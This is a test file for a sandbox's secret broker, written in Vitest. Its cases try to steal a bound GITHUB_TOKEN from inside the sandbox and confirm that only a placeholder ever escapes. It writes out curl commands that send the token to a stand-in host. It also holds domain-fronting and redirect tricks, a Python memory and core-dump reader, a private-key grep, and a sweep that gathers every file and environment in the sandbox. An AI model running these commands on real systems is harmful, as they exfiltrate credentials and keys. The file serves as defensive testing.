// Attacks on `nativeSandbox.secrets` from inside an isolated sandbox: a command that has the
// placeholder tries to learn the real value or use it anywhere but the bound host. Judged by
// what the test servers on the host's loopback received (https-fixture.mjs) and by what the
// sandbox leaves on the host (its files, checkpoints, memory, the package's log).
import fs from 'node:fs'
import path from 'node:path'
import zlib from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { isIsolationAvailable, setLogger } from '../lib/index.mjs'
import { BROKER_NAMES, boundTo, brokeredSandboxes, headerValues, recordsWith, tokenLike, useBrokerServers } from './https-fixture.mjs'
import { uniqueMarker, useIsolatedSandboxes, waitFor } from './helpers.mjs'

const available = isIsolationAvailable('bwrap')
const { sandbox } = useIsolatedSandboxes('nw-secrets-attacks-')
const servers = useBrokerServers(available)
const { received, connections, origin, accept, reset } = servers
const { brokered, place, placeholderOf } = brokeredSandboxes(servers, sandbox)

/** The status curl got (`000` for none) and then its stderr, for a request with the placeholder in `Authorization`. */
const curlStatus = (url, flags = '') => `curl -sS -o /dev/null -w '%{http_code}\\n' --max-time 20 ${flags} -H "Authorization: Bearer $GITHUB_TOKEN" "${url}"`
/** The refusal a command's stderr names for a placeholder of `variable`, never its value. */
const refusalNaming = (variable) => new RegExp(`^native-workspace: blocked by [\\w.]*secrets: .*${variable}`, 'm')

/** No server received `real` in any form, nor any request on the names of `untouched`. */
function expectNoLeak(real, untouched = []) {
  expect(recordsWith(received, real)).toEqual([])
  expect(received.filter((q) => untouched.includes(q.name))).toEqual([])
}

describe.skipIf(!available)('secrets: attacks from inside', () => {
  const real = tokenLike('ghp_')
  /** GITHUB_TOKEN bound to api.github.com and github.com; other.example plainly tunnelled. */
  const github = () => ({ GITHUB_TOKEN: boundTo(servers, real, 'api.github.com', 'github.com') })
  /** As `github()`, and other.example bound to a secret of its own. */
  const githubAndOther = () => ({ ...github(), OTHER_TOKEN: boundTo(servers, tokenLike('oth_'), 'other.example') })

  it('exfiltration to another allowed host: a tunnelled one gets only the placeholder, an intercepted one bound elsewhere a 403', async () => {
    reset()
    accept(real)
    const tunnelled = brokered(github())
    const fake = await placeholderOf(tunnelled, 'GITHUB_TOKEN')
    const steal = `${origin('other.example')}/steal?t=$GITHUB_TOKEN`
    const r = await tunnelled.executeCommand(`${curlStatus(steal, '--cacert test-ca.pem')}; curl -sS --cacert test-ca.pem -d "body=$GITHUB_TOKEN" "${origin('other.example')}/post"`)
    expect(r.stdout).toBe('200\nok from other.example\n')
    expect(received.map((q) => [q.name, q.target, headerValues(q, 'authorization'), q.body])).toEqual([
      ['other.example', `/steal?t=${fake}`, [`Bearer ${fake}`], ''],
      ['other.example', '/post', [], `body=${fake}`],
    ])

    reset()
    const intercepted = brokered(githubAndOther())
    const refused = await intercepted.executeCommand(curlStatus(steal))
    expect(refused.stdout).toBe('403\n')
    expect(refused.stderr).toMatch(refusalNaming('GITHUB_TOKEN'))
    expect(refused.stderr).not.toContain(real)
    expectNoLeak(real, ['other.example'])
  })

  it('a body sent to the bound host keeps the placeholder: only the target and headers are brokered', async () => {
    reset()
    accept(real)
    const sb = brokered(github())
    const fake = await placeholderOf(sb, 'GITHUB_TOKEN')
    const r = await sb.executeCommand(`curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" -d "echo=$GITHUB_TOKEN" ${origin('api.github.com')}/protected`)
    expect(r.stdout).toBe('authorized by api.github.com\n')
    expect(received.map((q) => q.body)).toEqual([`echo=${fake}`])
  })

  it('domain fronting: SNI of the bound host with the Host of another is refused, over HTTP/1.1 and HTTP/2; the reverse is a tunnel seeing the placeholder', async () => {
    reset()
    accept(real)
    const sb = brokered(github())
    const fake = await placeholderOf(sb, 'GITHUB_TOKEN')
    const otherHost = `other.example:${servers.ports['other.example'].https}`
    // Over HTTP/1.1 (curl), and over HTTP/2 with `:authority` (a client offering it alone).
    const fronting = [
      [curlStatus(`${origin('api.github.com')}/protected`, `-H "Host: ${otherHost}"`), '403\n'],
      [`node tunnel-client.mjs status ${origin('api.github.com')}/protected ${otherHost}`, 'h2 403\n'],
    ]
    for (const [command, status] of fronting) {
      const fronted = await sb.executeCommand(command)
      expect(fronted.stdout, command).toBe(status)
      // Refused by the interception's rule, and labelled by it, not by the allowlist.
      expect(fronted.stderr, command).toBe(
        `native-workspace: blocked by nativeSandbox.secrets: api.github.com:${servers.ports['api.github.com'].https}: the request names ${otherHost} (Host or :authority), not the server name and port of the intercepted connection\n`,
      )
    }
    // curl's --connect-to: a tunnel to other.example whose ClientHello names api.github.com.
    const connectTo = await sb.executeCommand(curlStatus(`${origin('api.github.com')}/protected`, `--connect-to api.github.com:${servers.ports['api.github.com'].https}:${otherHost}`))
    expect(connectTo.stdout).toBe('000\n')
    expectNoLeak(real, ['api.github.com'])

    reset()
    accept(real)
    const reverse = await sb.executeCommand(curlStatus(`${origin('other.example')}/front`, `--cacert test-ca.pem -H "Host: api.github.com:${servers.ports['api.github.com'].https}"`))
    expect(reverse.stdout).toBe('200\n')
    expect(received.map((q) => [q.name, headerValues(q, 'authorization')])).toEqual([['other.example', [`Bearer ${fake}`]]])
  })

  it('plain-HTTP downgrade: a placeholder over plain HTTP gets a 403 naming the variable, to the bound host and any other', async () => {
    reset()
    accept(real)
    const sb = brokered(github())
    const r = await sb.executeCommand(
      [
        curlStatus(`${origin('api.github.com', 'http')}/protected`),
        `curl -sS -o /dev/null -w '%{http_code}\\n' "${origin('api.github.com', 'http')}/query?t=$GITHUB_TOKEN"`,
        curlStatus(`${origin('other.example', 'http')}/plain`),
        `busybox wget -q -O - --header "Authorization: Bearer $GITHUB_TOKEN" ${origin('api.github.com', 'http')}/busybox`,
      ].join('; '),
    )
    expect(r.stdout.split('\n').slice(0, 3)).toEqual(['403', '403', '403'])
    expect(r.stderr).toMatch(refusalNaming('GITHUB_TOKEN'))
    expect(r.stderr).not.toContain(real)
    expect(connections['api.github.com'].http).toBe(0)
    expect(connections['other.example'].http).toBe(0)
    expectNoLeak(real, BROKER_NAMES)
  })

  it('a redirect to another host re-sending Authorization (curl -L --location-trusted) gets the placeholder there, or a 403', async () => {
    reset()
    accept(real)
    const sb = brokered(github())
    const fake = await placeholderOf(sb, 'GITHUB_TOKEN')
    const redirect = (to) => `${origin('api.github.com')}/redirect?to=${encodeURIComponent(to)}`
    // Both the sandbox's CA (for the bound host) and the test CA (for the tunnelled one).
    const trustBoth = 'cat "$SSL_CERT_FILE" test-ca.pem > both.pem'
    const tunnelled = await sb.executeCommand(`${trustBoth}; ${curlStatus(redirect(`${origin('other.example')}/landed`), '-L --location-trusted --cacert both.pem')}`)
    expect(tunnelled.stdout).toBe('200\n')
    expect(received.map((q) => [q.name, q.target.split('?')[0], headerValues(q, 'authorization')])).toEqual([
      ['api.github.com', '/redirect', [`Bearer ${real}`]],
      ['other.example', '/landed', [`Bearer ${fake}`]],
    ])

    reset()
    accept(real)
    const both = brokered(githubAndOther())
    const r = await both.executeCommand(
      [curlStatus(redirect(`${origin('other.example')}/landed`), '-L --location-trusted'), curlStatus(redirect(`${origin('other.example', 'http')}/plain`), '-L --location-trusted')].join('; '),
    )
    expect(r.stdout).toBe('403\n403\n')
    expect(r.stderr).toMatch(refusalNaming('GITHUB_TOKEN'))
    // The first hop, to the bound host, and nothing further.
    expect(received.map((q) => [q.name, headerValues(q, 'authorization')])).toEqual([
      ['api.github.com', [`Bearer ${real}`]],
      ['api.github.com', [`Bearer ${real}`]],
    ])
    expect(connections['other.example'].http).toBe(0)
  })

  it('a placeholder split across headers, case-changed or percent-encoded is never turned into the real value', async () => {
    reset()
    accept(real)
    const sb = brokered(githubAndOther())
    const fake = await placeholderOf(sb, 'GITHUB_TOKEN')
    const bound = `${origin('api.github.com')}/protected`
    // Bash's expansions cut and recase the placeholder.
    place(
      sb,
      'spellings.sh',
      [
        `curl -sS -o /dev/null -H "Authorization: Bearer \${GITHUB_TOKEN:0:20}" -H "X-Rest: \${GITHUB_TOKEN:20}" ${bound}/split`,
        `curl -sS -o /dev/null -H "Authorization: Bearer \${GITHUB_TOKEN,,}" ${bound}/lower`,
        `curl -sS -o /dev/null -H "Authorization: Bearer \${GITHUB_TOKEN^^}" ${bound}/upper`,
        // To a host bound to another secret: refused in every spelling.
        `for t in "\${GITHUB_TOKEN,,}" "\${GITHUB_TOKEN^^}"; do curl -sS -o /dev/null -w '%{http_code}\\n' -H "X-Token: $t" ${origin('other.example')}/case; done`,
        `curl -sS -o /dev/null -w '%{http_code}\\n' "${origin('other.example')}/encoded?t=%$(printf %s "\${GITHUB_TOKEN:0:1}" | od -An -tx1 | tr -d ' \\n')\${GITHUB_TOKEN:1}"`,
      ].join('\n'),
    )
    const r = await sb.executeCommand('bash spellings.sh')
    expect(r.stdout).toBe('403\n403\n403\n')
    const split = received.find((q) => q.target === '/protected/split')
    expect([headerValues(split, 'authorization'), headerValues(split, 'x-rest')]).toEqual([[`Bearer ${fake.slice(0, 20)}`], [fake.slice(20)]])
    expect(received.map((q) => q.target)).toEqual(['/protected/split', '/protected/lower', '/protected/upper'])
    for (const spelling of [real, real.toLowerCase(), real.toUpperCase(), real.slice(0, 20), real.slice(20)]) expect(recordsWith(received, spelling)).toEqual([])
    expectNoLeak(real, ['other.example'])
  })

  it("one sandbox using another sandbox's placeholder gets no real value", async () => {
    reset()
    const otherReal = tokenLike('ghp_')
    accept(real, otherReal)
    const [mine, theirs] = [brokered(github()), brokered({ GITHUB_TOKEN: boundTo(servers, otherReal, 'api.github.com') })]
    const theirFake = await placeholderOf(theirs, 'GITHUB_TOKEN')
    expect(await placeholderOf(mine, 'GITHUB_TOKEN')).not.toBe(theirFake)
    const r = await mine.executeCommand(`curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer ${theirFake}" ${origin('api.github.com')}/protected`)
    expect(['401\n', '403\n']).toContain(r.stdout)
    expect(recordsWith(received, otherReal)).toEqual([])
    expectNoLeak(real)
  })

  it('fail closed: a client trusting only the test CA gets a TLS error, and the server no request', async () => {
    reset()
    accept(real)
    const sb = brokered(github())
    const r = await sb.executeCommand(curlStatus(`${origin('api.github.com')}/protected`, '--cacert test-ca.pem'))
    expect(r.stdout).toBe('000\n')
    expect(r.stderr).toMatch(/SSL certificate problem|certificate verify failed|unable to get local issuer/)
    expect(received).toEqual([])
  })

  it('the CA key and the proxy are out of reach: no private key in any file a command can read, no host process to read', async () => {
    const sb = brokered(github())
    // The sandbox's CA files, what the broker puts at the root, and where a command writes or reads settings.
    const places = '"$SSL_CERT_FILE" "$NODE_EXTRA_CA_CERTS" "$REQUESTS_CA_BUNDLE" "$CURL_CA_BUNDLE" "$GIT_SSL_CAINFO" /.native-workspace* /etc /tmp /run "$HOME" "$PWD"'
    const keys = await sb.executeCommand(`grep -rlsE -e '-----BEGIN ([A-Z]+ )?PRIVATE KEY-----' ${places} | sort -u`)
    expect(keys.stdout).toBe('')
    expect((await sb.executeCommand('grep -c "BEGIN CERTIFICATE" "$SSL_CERT_FILE"')).stdout).toMatch(/^[1-9]\d*\n$/)
    // Every process a command can see is the sandbox's own: the host's (the proxy's) is not there to read.
    const seen = await sb.executeCommand(`for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline 2>/dev/null; echo; done; cat /proc/${process.pid}/mem 2>&1 | head -c 200 | od -c | head -2`)
    expect(seen.stdout).not.toContain(process.execPath)
    expect(seen.stdout).not.toMatch(/vitest/)
  })
})

describe.skipIf(!available)('secrets: the real value never exists inside', () => {
  const real = tokenLike('ghp_')
  const github = () => ({ GITHUB_TOKEN: boundTo(servers, real, 'api.github.com', 'github.com') })

  /** Every file under `dir` (recursively), as one buffer. */
  const treeBytes = (dir) =>
    Buffer.concat(
      fs
        .readdirSync(dir, { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => fs.readFileSync(path.join(entry.parentPath ?? entry.path, entry.name))),
    )

  it('not in the environment, /proc/*/environ or cmdline, any file a command can write, /tmp, memory or a core dump, after real use', async () => {
    reset()
    accept(real)
    const sb = brokered(github(), { checkpointName: 'after-use' })
    const fake = await placeholderOf(sb, 'GITHUB_TOKEN')
    const repo = `${origin('github.com').replace('https://', '')}/git/repo.git`
    // Real use first: a clone keeps its URL (with the placeholder), curl writes a cookie jar and headers to /tmp.
    const use = await sb.executeCommand(
      `git clone -q "https://x-access-token:$GITHUB_TOKEN@${repo}" clone && curl -sS -c /tmp/jar -D /tmp/headers -H "Authorization: Bearer $GITHUB_TOKEN" ${origin('api.github.com')}/protected`,
    )
    expect(use).toMatchObject({ exitCode: 0, stdout: 'authorized by api.github.com\n' })
    expect(recordsWith(received, real).length).toBeGreaterThan(0)
    // A process that used the placeholder and is still running, its memory read through /proc.
    place(
      sb,
      'memory.py',
      `import os, re, sys, urllib.request
request = urllib.request.Request(sys.argv[1], headers={'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})
urllib.request.urlopen(request, timeout=20).read()
with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem, open('memory.bin', 'wb') as out:
    for line in maps:
        start, end, perms = re.match(r'([0-9a-f]+)-([0-9a-f]+) (\\S+)', line).groups()
        if perms[0] != 'r' or line.rstrip().endswith('[vvar]'):
            continue
        try:
            mem.seek(int(start, 16))
            out.write(mem.read(int(end, 16) - int(start, 16)))
        except OSError:
            pass
# Then a core dump of this process, where the limits let one be written (core_pattern 'core').
import resource, signal
try:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (ValueError, OSError):
    pass
os.kill(os.getpid(), signal.SIGSEGV)
`,
    )
    const dumped = await sb.executeCommand(`/usr/bin/python3 memory.py ${origin('api.github.com')}/protected`)
    expect(dumped.exitCode).not.toBe(0) // the SIGSEGV
    const memory = fs.readFileSync(path.join(sb.workingDirectory, 'memory.bin'))
    // The dump holds what the process handled (the placeholder), so it would hold the value had it been given it.
    expect(memory.includes(fake)).toBe(true)
    expect(memory.includes(real)).toBe(false)
    // Its core dump, in its working directory where the host's core_pattern is a plain file name.
    if (!fs.readFileSync('/proc/sys/kernel/core_pattern', 'utf8').startsWith('|')) {
      const [core] = fs.readdirSync(sb.workingDirectory).filter((name) => name.startsWith('core'))
      expect(core).toBeDefined()
      const dump = fs.readFileSync(path.join(sb.workingDirectory, core))
      expect(dump.includes(fake)).toBe(true)
      expect(dump.includes(real)).toBe(false)
    }

    // Everything a command can read of itself and write, gathered into the workspace, while a
    // process of its own (the placeholder in its environment and command line) runs.
    await sb.processes.spawn(`exec sleep ${uniqueMarker()} "$GITHUB_TOKEN"`)
    const gather = await sb.executeCommand(
      `{ env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; find / \\( -path /proc -o -path /sys -o -path /dev -o -path "$PWD/everything.gz" \\) -prune -o -type f -writable -size -64M -print0 | xargs -0 cat; } 2>/dev/null | gzip > everything.gz`,
    )
    expect(gather.exitCode).toBe(0)
    const everything = zlib.gunzipSync(fs.readFileSync(path.join(sb.workingDirectory, 'everything.gz')))
    expect(everything.includes(fake)).toBe(true)
    expect(everything.includes(real)).toBe(false)
    // The workspace as the host sees it (the core file among them, where one was written).
    const workspace = treeBytes(sb.workingDirectory)
    expect(workspace.includes(fake)).toBe(true)
    expect(workspace.includes(real)).toBe(false)

    // A checkpoint of it, and a clone.
    await sb.snapshot()
    const checkpoints = path.join(path.dirname(sb.workingDirectory), '.checkpoints', 'after-use')
    expect(fs.existsSync(checkpoints)).toBe(true)
    expect(treeBytes(checkpoints).includes(real)).toBe(false)
    const clone = sb.clone({ workingDirectory: `${sb.workingDirectory}-clone` })
    try {
      const cloned = await clone.executeCommand('env; cat clone/.git/config 2>/dev/null')
      expect(cloned.stdout).toContain('GITHUB_TOKEN=')
      expect(cloned.stdout).not.toContain(real)
    } finally {
      await clone.destroy()
    }
  })

  it("not in the package's log at any level, nor in a refusal's text", async () => {
    const records = []
    const keep = (level) => (message, data) => records.push({ level, message, data })
    setLogger({ debug: keep('debug'), info: keep('info'), warn: keep('warn'), error: keep('error') }, { level: 'debug' })
    try {
      reset()
      accept(real)
      const sb = brokered(github())
      const r = await sb.executeCommand(
        `curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" ${origin('api.github.com')}/protected; curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" ${origin('api.github.com', 'http')}/plain`,
      )
      expect(r.stdout).toMatch(/^authorized by api\.github\.com\n[\s\S]*GITHUB_TOKEN/)
      expect(r.stdout + r.stderr).not.toContain(real)
      await waitFor(() => records.some((record) => record.level === 'warn'))
      await sb.destroy()
      expect(JSON.stringify(records)).not.toContain(real)
    } finally {
      setLogger(null)
    }
  })
})
